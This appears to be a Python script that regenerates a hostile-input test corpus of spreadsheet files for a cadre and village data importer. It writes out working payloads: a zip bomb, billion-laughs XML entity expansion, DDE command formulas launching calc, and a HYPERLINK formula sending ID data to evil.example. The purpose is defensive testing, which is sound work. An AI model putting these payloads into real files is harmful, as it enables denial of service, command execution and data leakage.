"""Regenerate the hostile-input corpus in tests/hostile/files/ (deterministic; run from the project root).

    .venv/bin/python tests/hostile/make_corpus.py

Every file is small (the zip bomb unpacks to 100 MB but is ~100 KB on disk). ``encrypted.xlsx`` needs
msoffcrypto-tool, which the project does not depend on: without it the committed file is kept.
"""

import io
import pathlib
import re
import zipfile

from openpyxl import Workbook

OUT = pathlib.Path(__file__).parent / "files"
FIXED_TIME = (2026, 1, 1, 0, 0, 0)  # zip member dates, so the bytes do not change between runs

CADRE_HEADERS = [
    "姓名",
    "性别",
    "身份证号",
    "出生年月",
    "政治面貌",
    "入党时间",
    "参加工作时间",
    "派出单位",
    "职级",
    "学历",
    "专业特长",
    "联系电话",
]
VILLAGE_HEADERS = [
    "村代码",
    "村名称",
    "乡镇代码",
    "乡镇名称",
    "村类别",
    "问题突出村",
    "党组织等级",
    "人口",
    "户数",
]
ASSIGNMENT_HEADERS = ["身份证号", "村代码", "职务", "任职时间", "计划期满", "批次", "派出层级"]
GOOD_ID = "37068219850501123X"  # valid check digit (X), male, born 1985-05-01
SECOND_ID = "370682198505011256"
THIRD_ID = "370682198505011272"


def cadre(name="张伟", id_number=GOOD_ID, **kw):
    row = {
        "姓名": name,
        "性别": "男",
        "身份证号": id_number,
        "出生年月": "1985-05",
        "政治面貌": "中共党员",
        "入党时间": "2010-07",
        "参加工作时间": "2008-08-01",
        "派出单位": "莱阳市财政局",
        "职级": "正科级",
        "学历": "大学本科",
        "专业特长": "农业经济",
        "联系电话": "13800000000",
    }
    row.update(kw)
    return [row[h] for h in CADRE_HEADERS]


def workbook(headers, rows):
    wb = Workbook()
    ws = wb.active
    if headers:
        ws.append(headers)
    for r in rows:
        ws.append(r)
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":  # openpyxl takes "=…" for a formula: keep it as typed text
                cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return rezip(out.getvalue())


def rezip(data, replace=None, add=None):
    """Copy an .xlsx with fixed member dates, editing members: replace = {name: fn(text) -> text}."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in sorted(src.infolist(), key=lambda i: i.filename):
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the time of saving
                content = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-01T00:00:00Z", content)
            if info.filename in replace:
                edited = replace[info.filename](content.decode()).encode()
                assert edited != content, f"the edit of {info.filename} changed nothing"
                content = edited
            zf.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), content, zipfile.ZIP_DEFLATED)
        for name, content in add.items():
            zf.writestr(zipfile.ZipInfo(name, FIXED_TIME), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 2 else "")) * 10}">' for i in range(2, 10))
    + "]>"
)


def build():
    good = workbook(CADRE_HEADERS, [cadre()])
    files = {}
    files["csv_renamed.xlsx"] = (",".join(CADRE_HEADERS) + "\n" + ",".join(cadre()) + "\n").encode(
        "utf-8-sig"
    )
    files["png_renamed.xlsx"] = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
        "0000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
    )
    files["empty.xlsx"] = b""
    files["truncated.xlsx"] = good[: len(good) // 2]
    files["legacy_xls_renamed.xlsx"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    files["macro.xlsm"] = rezip(good, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Attribute VB_Name"})
    files["macro_renamed.xlsx"] = files["macro.xlsm"]
    files["zip_bomb.xlsx"] = zip_bomb(good)
    files["billion_laughs_sheet.xlsx"] = rezip(
        good, {SHEET: lambda s: LAUGHS + s.replace("<t>张伟</t>", "<t>&lol9;</t>")}
    )
    files["billion_laughs_shared_strings.xlsx"] = rezip(
        good,
        add={
            "xl/sharedStrings.xml": LAUGHS
            + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>'
        },
    )
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    files["far_cell.xlsx"] = rezip(good, {SHEET: lambda s: s.replace("</sheetData>", far)})
    far_row = '<row r="1048576"><c r="B1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    files["far_row.xlsx"] = rezip(good, {SHEET: lambda s: s.replace("</sheetData>", far_row)})
    bad_digit = workbook(CADRE_HEADERS, [cadre(id_number=GOOD_ID[:-1] + "4")])
    files["huge_dimension.xlsx"] = rezip(
        bad_digit,
        {SHEET: lambda s: s.replace('<dimension ref="A1:L2" />', '<dimension ref="A1:XFD1048576" />')},
    )
    files["renamed_headers.xlsx"] = workbook(["名字", *CADRE_HEADERS[1:]], [cadre()])
    a2 = '<c r="A2" t="inlineStr"><is><t>张伟</t></is></c>'
    files["formula_dde.xlsx"] = rezip(
        good, {SHEET: lambda s: s.replace(a2, '<c r="A2" t="e"><f>cmd|\' /C calc\'!A0</f><v>#N/A</v></c>')}
    )
    files["formula_hyperlink.xlsx"] = rezip(
        good,
        {
            SHEET: lambda s: s.replace(
                a2,
                '<c r="A2" t="str"><f>HYPERLINK("http://evil.example/?id="&amp;C2,"张伟")</f><v>张伟</v></c>',
            )
        },
    )
    files["formula_text.xlsx"] = workbook(
        CADRE_HEADERS,
        [
            cadre(name="=cmd|' /C calc'!A0"),
            cadre(id_number=SECOND_ID, 专业特长="@SUM(1+1)*cmd|' /C calc'!A0"),
            cadre(id_number=THIRD_ID, 联系电话="-2+3+cmd|' /C calc'!A0"),
        ],
    )
    files["wrong_types_villages.xlsx"] = workbook(
        VILLAGE_HEADERS,
        [["370682100301", "大宁村", "370682100000", "沐浴店镇", "城市", "也许", "五类", "一千二", -5]],
    )
    files["bad_dates_cadres.xlsx"] = workbook(
        CADRE_HEADERS,
        [
            cadre(参加工作时间="2026-02-30"),
            cadre(id_number=SECOND_ID, 入党时间="2010-13"),
            cadre(id_number=THIRD_ID, 出生年月="1985-02-29"),
        ],
    )
    files["bad_check_digit.xlsx"] = bad_digit
    files["fullwidth_id.xlsx"] = workbook(
        CADRE_HEADERS, [cadre(id_number=GOOD_ID.translate({ord("0") + i: 0xFF10 + i for i in range(10)}))]
    )
    files["superscript_id.xlsx"] = workbook(CADRE_HEADERS, [cadre(id_number=GOOD_ID[:-1] + "³")])
    files["arabic_indic_id.xlsx"] = workbook(
        CADRE_HEADERS, [cadre(id_number=GOOD_ID.translate({ord("0") + i: 0x0660 + i for i in range(10)}))]
    )
    files["zero_width_name.xlsx"] = workbook(CADRE_HEADERS, [cadre(name="\u200b张\u200c伟\ufeff")])
    files["rtl_override_name.xlsx"] = workbook(
        CADRE_HEADERS,
        [cadre(name="张\u202e伟"), cadre(id_number=SECOND_ID, name="李\u200f娜", 性别="女")],
    )
    files["nul_name.xlsx"] = rezip(good, {SHEET: lambda s: s.replace("<t>张伟</t>", "<t>张_x0000_伟</t>")})
    files["combining_overlong_name.xlsx"] = workbook(CADRE_HEADERS, [cadre(name="张" + "\u0336" * 60 + "伟")])
    files["oversized_fields.xlsx"] = workbook(CADRE_HEADERS, [cadre(name="张" * 32767, 专业特长="农" * 5000)])
    files["empty_sheet.xlsx"] = workbook([], [])
    files["header_only.xlsx"] = workbook(CADRE_HEADERS, [])
    files["duplicate_rows.xlsx"] = workbook(CADRE_HEADERS, [cadre(), cadre(), cadre()])
    files["other_county_village.xlsx"] = workbook(
        VILLAGE_HEADERS,
        [["370687100301", "外县村", "370687100000", "凤城街道", "脱贫村", "否", "二类", 800, 300]],
    )
    files["assignment_unknown_refs.xlsx"] = workbook(
        ASSIGNMENT_HEADERS,
        [
            ["370682199001011230", "370682100999", "第一书记", "2025-03-01", "", "", "县级"],
            [GOOD_ID, "370682100999", "第一书记", "2026-02-30", "", "", "县级"],
        ],
    )
    for name, data in files.items():
        (OUT / name).write_bytes(data)
    encrypted(good)
    return files


def zip_bomb(good):
    """A valid workbook whose sheet is padded with 100 MB of spaces: ~100 KB compressed (ratio ~1000)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in sorted(src.infolist(), key=lambda i: i.filename):
            content = src.read(info.filename)
            if info.filename == SHEET:
                member = zipfile.ZipInfo(SHEET, FIXED_TIME)
                member.compress_type = zipfile.ZIP_DEFLATED
                with zf.open(member, "w", force_zip64=True) as f:
                    f.write(content.replace(b"</worksheet>", b""))
                    block = b" " * (1 << 20)
                    for _ in range(100):
                        f.write(block)
                    f.write(b"</worksheet>")
            else:
                zf.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def encrypted(good):
    try:
        import msoffcrypto.format.ooxml as ooxml
    except ImportError:
        print("msoffcrypto-tool not installed: keeping the committed encrypted.xlsx")
        return
    out = io.BytesIO()
    ooxml.OOXMLFile(io.BytesIO(good)).encrypt("zhucun", out)
    (OUT / "encrypted.xlsx").write_bytes(out.getvalue())


if __name__ == "__main__":
    OUT.mkdir(exist_ok=True)
    for name, data in sorted(build().items()):
        print(f"{name:40} {len(data):>9,} bytes")
